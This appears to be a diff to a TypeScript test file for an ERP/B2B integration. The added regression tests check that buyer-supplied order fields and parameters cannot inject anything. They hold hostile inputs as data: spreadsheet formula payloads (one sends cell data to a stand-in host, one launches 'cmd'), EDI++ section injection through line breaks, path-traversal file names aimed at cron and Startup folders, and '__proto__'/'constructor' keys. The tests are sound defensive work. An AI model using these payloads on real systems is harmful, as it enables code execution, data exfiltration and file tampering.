@@ -125,6 +125,11 @@ const FILE_CASES: Array<[string, IDataObject, RegExp]> = [
 	['csv-pusty.csv', CSV, /^csv-pusty\.csv line 1, header: the file is empty/],
 	['csv-podwojna-kolumna.csv', CSV, /^csv-podwojna-kolumna\.csv line 1.*column "Nazwa" appears twice/],
 	['csv-zla-stawka-vat.csv', CSV, /^csv-zla-stawka-vat\.csv line 3: product "ŁÓD-001": field "vatRate"/],
+	[
+		'csv-stawka-vat-constructor.csv',
+		CSV,
+		/^csv-stawka-vat-constructor\.csv line 3: product "ŁÓD-001": field "vatRate" must be a VAT rate/,
+	],
 	['csv-pusta-nazwa.csv', CSV, /^csv-pusta-nazwa\.csv line 3: product "ŁÓD-001": field "name"/],
 	[
 		'csv-ten-sam-kod-dwa-razy.csv',
@@ -159,6 +164,11 @@ const FILE_CASES: Array<[string, IDataObject, RegExp]> = [
 		/^epp-zly-symbol-vat\.epp line \d+ \(TOWARY record 2\): product "[^"]+": EDI\+\+ field 11 \(vatSymbol\): unknown EDI\+\+ VAT symbol "XX"/,
 	],
 	[
+		'epp-symbol-vat-constructor.epp',
+		EPP,
+		/^epp-symbol-vat-constructor\.epp TOWARY record 2: unknown EDI\+\+ VAT symbol "constructor"/,
+	],
+	[
 		'epp-niedomkniety-cudzyslow.epp',
 		EPP,
 		/^epp-niedomkniety-cudzyslow\.epp: line 10, field 5: unexpected character "O" after a closing quote/,
@@ -171,6 +181,11 @@ const FILE_CASES: Array<[string, IDataObject, RegExp]> = [
 		'xml-xxe-plik.xml',
 		XML,
 		/^xml-xxe-plik\.xml line 2, column 1: the file has a DOCTYPE declaration; XML files with a DTD are refused/,
+	],
+	[
+		'xml-doctype-za-instrukcja.xml',
+		XML,
+		/^xml-doctype-za-instrukcja\.xml line 3, column 1: the file has a DOCTYPE declaration/,
 	],
 	['xml-xxe-siec.xml', XML, /^xml-xxe-siec\.xml line 2, column 1: the file has a DOCTYPE declaration/],
 	[
@@ -320,6 +335,69 @@ describe('bad files through ERP File › Parse File', () => {
 	);
 });
 
+// ------------------------------------------------------------------------------------------------ orders → files
+
+/** issue #12: what a buyer types into an order must not become a formula, a section or a path in the file made from it */
+describe('orders that try to steer the file ERP File › Build File makes', () => {
+	const build = (parameters: IDataObject, orders: Order[]) =>
+		runNode({
+			nodeType: new ErpFile(),
+			parameters: { operation: 'build', outputBinaryPropertyName: 'data', ...parameters } as never,
+			inputItems: orders.map((o) => ({ json: o as unknown as IDataObject })),
+		});
+	const bytesOf = (r: RunNodeResult) => Buffer.from(r.output![0][0].binary!.data.data, 'base64');
+
+	it('a note "=HYPERLINK(…)" / "@SUM(…)" / "+…" / "-…" reaches the CSV as text, not as a formula', async () => {
+		const notes = [
+			'=HYPERLINK("http://zły.example/"&A1)',
+			"@SUM(1+1)*cmd|' /C calc'!A0",
+			'+48 600 100 200',
+			'-2+3+cmd|x',
+		];
+		const r = await build(
+			{
+				outputFormat: 'csv',
+				buildEntity: 'order',
+				csvEncoding: 'utf-8',
+				csvDelimiter: ';',
+				fileName: 'zamowienia.csv',
+			},
+			notes.map((n, k) => makeOrder(20 + k, { notes: `${n} ${POLISH_LETTERS}` })),
+		);
+		keep('build csv formula', r);
+		expect(r.error).toBeUndefined();
+		const cells = bytesOf(r)
+			.toString('utf8')
+			.split('\r\n')
+			.slice(1)
+			.filter(Boolean)
+			.flatMap((line) => line.split(';'));
+		expect(cells.filter((c) => /^"?[=+@-]/.test(c) && !/^-?\d/.test(c))).toEqual([]);
+		for (const n of notes) expect(cells.some((c) => c.startsWith(`"'${n.slice(0, 8).replace(/"/g, '""')}`))).toBe(true);
+	});
+
+	it('a note with CR/LF and "[NAGLOWEK]" stays inside one EDI++ line', async () => {
+		const notes = `Pilne\r\n[NAGLOWEK]\r\n"FS",1,0,1\n[ZAWARTOSC]\r${POLISH_LETTERS}`;
+		const r = await build({ outputFormat: 'epp', fileName: 'zamowienia.epp' }, [makeOrder(30, { notes })]);
+		keep('build epp line breaks', r);
+		expect(r.error).toBeUndefined();
+		const physical = require('iconv-lite')
+			.decode(bytesOf(r), 'windows-1250')
+			.split(/\r\n|\r|\n/) as string[];
+		expect(physical.filter((l) => /^\[[A-Z]+\]$/.test(l))).toEqual(['[INFO]', '[NAGLOWEK]', '[ZAWARTOSC]']);
+	});
+
+	it.each(['../../etc/cron.d/zamowienia.epp', '..\\Start Menu\\Programs\\Startup\\x.epp', '..'])(
+		'File Name %p is refused: nothing is made',
+		async (fileName) => {
+			const r = await build({ outputFormat: 'epp', fileName }, [makeOrder(31)]);
+			keep('build file name', r);
+			expect(r.output).toBeNull();
+			expect(r.error?.message).toMatch(/^File Name ".*" is a path/);
+		},
+	);
+});
+
 // ------------------------------------------------------------------------------------------------ orders → SAP
 
 describe('malformed order payloads through SAP B1 › Create Sales Order (0 SAP documents)', () => {
@@ -410,6 +488,16 @@ describe('malformed order payloads through SAP B1 › Create Sales Order (0 SAP 
 			(o) => (o.notes = 'zażółć gęślą jaźń '.repeat(400)),
 			(o) => new RegExp(`^Item 0: order "${o.number}": field "notes"`),
 		],
+		[
+			'VAT rate "constructor" (once a 0 % marker)',
+			(o) => (o.lines[0].vatRate = 'constructor'),
+			(o) => new RegExp(`^Item 0: order "${o.number}": field "lines\\[0\\]\\.vatRate" must be a VAT rate`),
+		],
+		[
+			'VAT rate "__proto__"',
+			(o) => (o.lines[0].vatRate = '__proto__'),
+			(o) => new RegExp(`^Item 0: order "${o.number}": field "lines\\[0\\]\\.vatRate" must be a VAT rate`),
+		],
 		['a product SAP does not have', (o) => (o.lines[0].productCode = 'NIE-MA-ŻADNEGO'), () => /NIE-MA-ŻADNEGO/],
 	];
 
@@ -472,6 +560,12 @@ describe('bad records through B2B Portal › upsert (0 portal writes)', () => {
 			'product',
 			{ code: 'VAT-1', name: 'Gęś', vatRate: '22,5' },
 			/^Item 0: product "VAT-1": field "vatRate" must be a VAT rate/,
+		],
+		[
+			'product VAT "constructor"',
+			'product',
+			{ code: 'VAT-2', name: 'Gęś', vatRate: 'constructor' },
+			/^Item 0: product "VAT-2": field "vatRate" must be a VAT rate/,
 		],
 		[
 			'product without a code',
@@ -542,6 +636,7 @@ async function deliver(
 	rawBody: Buffer,
 	headers: Record<string, string>,
 	staticData: IDataObject = {},
+	options: IDataObject = { toleranceSeconds: 300 },
 ): Promise<Delivery> {
 	const out: Delivery = { status: 0, body: {}, started: false, log: [] };
 	const res = {
@@ -573,8 +668,7 @@ async function deliver(
 			webhookSecret: WEBHOOK_SECRET,
 		}),
 		getNodeParameter: (name: string, fallback?: unknown) =>
-			(({ events: ['order.created'], options: { toleranceSeconds: 300 } }) as Record<string, unknown>)[name] ??
-			fallback,
+			(({ events: ['order.created'], options }) as Record<string, unknown>)[name] ?? fallback,
 		getWorkflowStaticData: () => staticData,
 		getNode: () => ({ name: 'New order in portal', type: 'n8n-nodes-erp-b2b.b2bPortalTrigger' }),
 		logger: { warn: log('warn'), info: log('info'), debug: log('debug'), error: log('error') },
@@ -677,6 +771,39 @@ describe('webhook deliveries through the B2B Portal Trigger (nothing started)', 
 			expect(d.started).toBe(false);
 			expect(JSON.stringify(d.body)).toMatch(reason);
 			expect(d.log.join('\n')).toMatch(reason);
+		},
+	);
+
+	// issue #12: an Allowed Clock Difference that is no number once became NaN, and NaN let every old event through
+	it.each([
+		['text from an expression', 'pięć minut'],
+		['an empty expression', ''],
+		['NaN', Number.NaN],
+		['Infinity', Number.POSITIVE_INFINITY],
+	])('an Allowed Clock Difference that is %s: refused (500, nothing started), never "no window"', async (_n, value) => {
+		const stale = event('e-stare', makeOrder(13) as never);
+		const d = await deliver(stale, signed(stale, now() - 3600 * 24 * 30), {}, { toleranceSeconds: value as never });
+		expect(d).toMatchObject({ status: 500, started: false });
+		expect(JSON.stringify(d.body)).toMatch(
+			/Allowed Clock Difference \(Seconds\) must be a number of seconds from 10 to 3600/,
+		);
+		const fresh = event('e-swieze', makeOrder(14) as never);
+		expect(await deliver(fresh, signed(fresh), {}, { toleranceSeconds: value as never })).toMatchObject({
+			status: 500,
+			started: false,
+		});
+	});
+
+	// issue #12: `id in seen` made an event id "constructor" a duplicate of nothing, and "__proto__" was never remembered
+	it.each(['constructor', '__proto__', 'toString', 'hasOwnProperty'])(
+		'an event id %p starts one run; the same event again starts nothing (static data saved as JSON between)',
+		async (id) => {
+			let staticData: IDataObject = {};
+			const body = event(id, makeOrder(15) as never);
+			expect(await deliver(body, signed(body), staticData)).toMatchObject({ status: 200, started: true });
+			staticData = JSON.parse(JSON.stringify(staticData)) as IDataObject;
+			const again = await deliver(body, signed(body), staticData);
+			expect(again).toMatchObject({ status: 200, started: false, body: { duplicate: true } });
 		},
 	);
 
